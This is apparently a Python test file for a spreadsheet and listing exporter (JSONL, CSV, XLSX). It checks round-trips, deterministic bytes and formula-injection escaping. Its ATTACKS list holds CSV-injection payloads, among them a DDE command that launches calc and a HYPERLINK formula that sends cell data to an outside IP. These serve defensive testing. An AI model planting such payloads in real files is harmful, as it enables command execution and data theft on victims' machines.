"""Rows written as JSONL, CSV and XLSX: read back they are the same, written again they are the same bytes."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from importlib.resources import files
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from corpus.exports.csv_format import CsvWriter
from corpus.exports.format import TableWriter
from corpus.exports.jsonl_format import JsonlWriter
from corpus.exports.listings import WrittenRow, find_sheet_kind, write_listings
from corpus.exports.xlsx_format import XlsxWriter
from corpus.hostile.package import parse_xml
from corpus.imports.reading import read_file
from corpus.listing.jsonl import read_listings
from corpus.reference.taxonomy import load_taxonomy
from corpus.sheet.cell import escape_formula, escape_quoted_formula, unescape_formula
from corpus.sheet.column import SheetKind
from corpus.validation.refusal import CellNotWritable
from corpus.validation.row import ListingRow, OrganizationRow, RowError
from market.listing.listing import Language
from tests.corpus.sheet.rows import rows

TAXONOMY = load_taxonomy()
FORMULA = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
SLOW = [HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much]


def bare(row: WrittenRow) -> WrittenRow:
    """Forget where in a file a row stood."""
    return replace(row, number=0, sheet="")


def identity(row: WrittenRow) -> tuple[Any, ...]:
    if isinstance(row, OrganizationRow):
        return ("organization", row.organization.code)
    return (row.listing.KIND, row.organization, row.listing.number or row.listing.title)


def apart(found: Sequence[WrittenRow]) -> list[WrittenRow]:
    """Keep the first of rows that a file may not have twice."""
    kept: dict[tuple[Any, ...], WrittenRow] = {}
    numbers: set[str | None] = set()
    for row in found:
        if isinstance(row, OrganizationRow):
            if row.organization.number is not None and row.organization.number in numbers:
                continue
            numbers.add(row.organization.number)
        kept.setdefault(identity(row), row)
    return list(kept.values())


def read(payload: bytes) -> list[WrittenRow]:
    found = list(read_file(payload, "", taxonomy=TAXONOMY))
    assert [each for each in found if not isinstance(each, ListingRow | OrganizationRow)] == []
    return [each for each in found if isinstance(each, ListingRow | OrganizationRow)]


def written(
    found: Sequence[WrittenRow],
    writer: type[TableWriter],
    *kinds: SheetKind,
    language: Language = Language.ZH,
) -> bytes:
    file = io.BytesIO()
    write_listings(found, file, writer, kinds=kinds or tuple(SheetKind), language=language)
    return file.getvalue()


def xlsx(found: Sequence[WrittenRow], language: Language = Language.ZH) -> bytes:
    return written(found, XlsxWriter, language=language)


def jsonl(found: Sequence[WrittenRow]) -> bytes:
    return written(found, JsonlWriter)


def table_of(found: Sequence[WrittenRow], kind: SheetKind, language: Language = Language.ZH) -> bytes:
    return written(found, CsvWriter, kind, language=language)


def one_kind(found: Sequence[WrittenRow], kind: SheetKind) -> list[WrittenRow]:
    return [row for row in found if find_sheet_kind(row) is kind]


def check_every_format(found: Sequence[WrittenRow], language: Language) -> None:
    by_kind = [row for kind in SheetKind for row in one_kind(found, kind)]
    workbook = xlsx(found, language)
    again = read(workbook)
    assert [bare(row) for row in again] == [bare(row) for row in by_kind]
    assert xlsx(again, language) == workbook
    lines = jsonl(found)
    assert jsonl(read(lines)) == lines
    for kind in SheetKind:
        mine = one_kind(found, kind)
        if mine:
            table = table_of(mine, kind, language)
            back = read(table)
            assert [bare(row) for row in back] == [bare(row) for row in mine]
            assert table_of(back, kind, language) == table


def samples() -> list[WrittenRow]:
    folder = files("corpus").joinpath("sample")
    paths = sorted((path for path in folder.iterdir() if path.name.endswith(".jsonl")), key=lambda path: path.name)
    found = [row for path in paths for row in read_listings(path.read_bytes().split(b"\n"), taxonomy=TAXONOMY)]
    return [row for row in found if not isinstance(row, RowError)]


@pytest.mark.parametrize("language", Language, ids=lambda language: language.value)
def test_every_sample_goes_out_and_in_again_in_every_format(language: Language) -> None:
    found = samples()
    assert {find_sheet_kind(row) for row in found} == set(SheetKind)
    check_every_format(found, language)


@settings(max_examples=25, suppress_health_check=SLOW)
@given(st.lists(rows(), min_size=1, max_size=4), st.sampled_from(Language))
def test_whatever_can_be_kept_goes_out_and_in_again_in_every_format(
    found: list[WrittenRow], language: Language
) -> None:
    check_every_format(apart(found), language)


def test_a_table_in_a_script_nobody_expects_is_text_all_the_same() -> None:
    name = "\u0250\ufffd" * 14
    odd = next(row for row in samples() if isinstance(row, OrganizationRow))
    strange = replace(odd, organization=replace(odd.organization, name=name))
    back = read(table_of([strange], SheetKind.ORGANIZATION))
    assert [row.organization.name for row in back if isinstance(row, OrganizationRow)] == [name]


ODD = st.text(st.sampled_from("'=+-@＝＋－＠\t\r\na磁|"), max_size=6)


@given(ODD)
def test_a_guard_is_taken_off_exactly_and_leaves_nothing_that_runs(text: str) -> None:
    assert unescape_formula(escape_formula(text)) == text
    assert unescape_formula(escape_quoted_formula(text)) == text
    assert not FORMULA.match(escape_formula(text))


ATTACKS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "＝1+1",
    "'=1+1",
    "''+1",
    "'quoted'",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    "https://192.0.2.1/",
    "mailto:a@example.org",
    "{=1+1}",
    "007",
    "1e5",
    "TRUE",
)


def attack_row(attack: str) -> ListingRow:
    members: dict[str, Any] = {"kind": "need", "organization": attack, "number": attack, "title": attack}
    members |= {"body": f"{attack}\n{attack}", "elements": {"materials": [attack]}, "criteria": attack}
    [row] = read_listings([_json(members)], taxonomy=TAXONOMY)
    assert isinstance(row, ListingRow)
    return row


def _json(members: dict[str, Any]) -> str:
    return json.dumps(members, ensure_ascii=False)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_export_holds_anything_that_runs(attack: str) -> None:
    row = attack_row(attack)
    table = table_of([row], SheetKind.NEED).decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(table, newline="")) for cell in line]
    assert [cell for cell in cells if FORMULA.match(cell)] == []
    with zipfile.ZipFile(io.BytesIO(xlsx([row]))) as package:
        sheets = [parse_xml(package.read(n)) for n in package.namelist() if "worksheets/sheet" in n]
        assert not any("externalLink" in name or "sheet1.xml.rels" in name for name in package.namelist())
    nodes = [node for sheet in sheets for node in sheet.iter()]
    assert [node.tag for node in nodes if node.tag.endswith(("}f", "}hyperlink"))] == []
    held = [node for node in nodes if node.tag.endswith("}c") and attack in "".join(node.itertext())]
    assert len(held) >= 4
    assert {node.get("t") for node in held} == {"inlineStr"}
    assert [bare(each) for each in read(xlsx([row]))] == [bare(row)]


def test_the_same_rows_give_the_same_bytes_whenever_they_are_written() -> None:
    found = samples()[:40]
    assert xlsx(found) == xlsx(found)
    with zipfile.ZipFile(io.BytesIO(xlsx(found))) as package:
        assert b"2026-01-01T00:00:00Z</dcterms:created>" in package.read("docProps/core.xml")
        assert {entry.date_time[0] for entry in package.infolist()} == {1980}


def test_a_csv_begins_with_a_mark_and_its_headings() -> None:
    first, second, *_ = table_of([attack_row("A")], SheetKind.NEED).split(b"\r\n")
    assert first.startswith("\ufeff机构代码,需求编号,需求名称,".encode())
    assert second.startswith(b"A,A,A,")


def test_amounts_and_days_are_numbers_and_dates_for_a_spreadsheet() -> None:
    price = {"price": {"low_wan": "12.5", "high_wan": "123456789.123456"}, "expires_on": "2027-01-31"}
    members = {"kind": "achievement", "organization": "X", "title": "t"} | price
    [row] = read_listings([_json(members)], taxonomy=TAXONOMY)
    assert isinstance(row, ListingRow)
    with zipfile.ZipFile(io.BytesIO(xlsx([row]))) as package:
        sheet = package.read("xl/worksheets/sheet2.xml").decode()
    assert "<v>12.5</v>" in sheet
    assert "<v>123456789.123456</v>" in sheet
    assert "<v>46418</v>" in sheet
    assert [bare(each) for each in read(xlsx([row]))] == [bare(row)]


def test_what_a_cell_can_t_hold_is_refused_by_its_row_and_column() -> None:
    quote = "长" * 400
    indicator = {"name": "n", "comparator": ">=", "value": "1", "condition": quote, "quote": quote}
    members = {"kind": "need", "organization": "X", "title": "t", "indicators": [indicator] * 60}
    [row] = read_listings([_json(members)], taxonomy=TAXONOMY)
    assert isinstance(row, ListingRow)
    with pytest.raises(CellNotWritable, match="row 2, 技术指标: it is longer"):
        xlsx([row])
    assert [bare(each) for each in read(table_of([row], SheetKind.NEED))] == [bare(row)]


def test_a_row_of_another_kind_is_no_row_of_this_sheet() -> None:
    with pytest.raises(ValueError, match="a row of need does not go"):
        table_of([attack_row("A")], SheetKind.EXPERT)
